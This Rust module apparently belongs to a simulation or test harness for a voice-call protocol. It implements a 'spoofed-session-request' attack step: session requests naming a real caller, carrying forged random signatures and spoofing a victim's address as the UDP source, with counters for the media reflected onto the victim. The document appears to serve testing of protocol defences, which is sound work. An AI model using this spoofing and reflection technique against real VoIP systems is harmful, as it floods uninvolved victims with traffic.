//! `spoofed-session-request`: Session Requests that name a registered caller, sent to the
//! callee's registered endpoint with the victim's address as UDP source. A callee that takes
//! the UDP source as its peer's media address streams the call to the victim.
//!
//! The attacker knows what the chain publishes: the caller's hash address and its ed25519
//! public key. It does not have the caller's signing key, so each request carries the caller's
//! public key and a signature of random bytes, and valid-looking (in-range) DH values.

use super::packet::{Udp, udp_packet};
use super::{Outbox, Resolver};
use binfm_roles::Time;
use binfm_stack::wire::binfm::Message;
use binfm_stack::wire::ports;
use binfm_stack::wire::rtp::is_rtp;
use binfm_stack::wire::toall::HashAddr;
use rand::{Rng, RngExt, SeedableRng};
use rand_chacha::ChaCha8Rng;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::Duration;

/// Time between two spoofed requests of one step.
pub const REQUEST_INTERVAL: Duration = Duration::from_millis(20);

/// The state and counts of one `spoofed-session-request` step.
#[derive(Debug)]
pub struct Reflection {
    pub(super) resolver: Resolver,
    caller: HashAddr,
    caller_key: [u8; 32],
    victim: Ipv4Addr,
    requests: u32,
    pub(super) next: Option<Time>,
    rng: ChaCha8Rng,
    /// Spoofed requests sent.
    pub requests_sent: u32,
    /// Their IPv4 bytes.
    pub bytes_sent: u64,
    /// Packets from the callee's NAT address delivered to the victim.
    pub victim_packets: u64,
    /// Their IPv4 bytes.
    pub victim_bytes: u64,
    /// Of those: RTP media.
    pub victim_media_packets: u64,
    /// Their IPv4 bytes.
    pub victim_media_bytes: u64,
}

impl Reflection {
    /// `requests` requests claiming `caller` (whose public key is `caller_key`), to `callee`
    /// (looked up at `sn` from `me`), from `victim`'s address.
    #[allow(clippy::too_many_arguments)]
    pub fn new(
        me: SocketAddrV4,
        sn: SocketAddrV4,
        caller: HashAddr,
        caller_key: [u8; 32],
        callee: HashAddr,
        victim: Ipv4Addr,
        requests: u32,
        seed: u64,
    ) -> Self {
        Reflection {
            resolver: Resolver::new(callee, sn, me),
            caller,
            caller_key,
            victim,
            requests,
            next: None,
            rng: ChaCha8Rng::seed_from_u64(seed),
            requests_sent: 0,
            bytes_sent: 0,
            victim_packets: 0,
            victim_bytes: 0,
            victim_media_packets: 0,
            victim_media_bytes: 0,
        }
    }

    /// The callee's registered endpoint, once the attacker knows it.
    pub fn callee_endpoint(&self) -> Option<SocketAddrV4> {
        self.resolver.found
    }

    pub(super) fn on_timeout(&mut self, now: Time, out: &mut Outbox) {
        if self.resolver.next.is_some_and(|t| t <= now) {
            self.resolver.send(now, out);
        }
        let Some(to) = self.resolver.found else {
            return;
        };
        if self.next.is_none_or(|t| t > now) {
            return;
        }
        let mut signature = [0u8; 64];
        self.rng.fill_bytes(&mut signature);
        let msg = Message::SessionRequest {
            caller: self.caller,
            callee: self.resolver.hash,
            nonce: self.rng.random(),
            ssrc: self.rng.random(),
            ephemeral: super::group14_like(&mut self.rng),
            next: super::group14_like(&mut self.rng),
            public_key: self.caller_key,
            signature,
        };
        let p = udp_packet(
            SocketAddrV4::new(self.victim, ports::EN),
            to,
            &msg.to_bytes(),
        );
        self.requests_sent += 1;
        self.bytes_sent += p.len() as u64;
        out.push_back(p);
        self.next = (self.requests_sent < self.requests).then_some(now + REQUEST_INTERVAL);
    }

    pub(super) fn poll_timeout(&self) -> Option<Time> {
        match (self.resolver.next, self.next) {
            (Some(a), Some(b)) => Some(a.min(b)),
            (a, b) => a.or(b),
        }
    }

    /// A packet delivered to the victim: counted when it comes from the callee's NAT address.
    pub fn on_victim_delivery(&mut self, len: usize, udp: Option<Udp<'_>>) {
        let Some(from) = self.resolver.found else {
            return;
        };
        let Some(u) = udp.filter(|u| u.src.ip() == from.ip()) else {
            return;
        };
        self.victim_packets += 1;
        self.victim_bytes += len as u64;
        if is_rtp(u.payload) {
            self.victim_media_packets += 1;
            self.victim_media_bytes += len as u64;
        }
    }
}
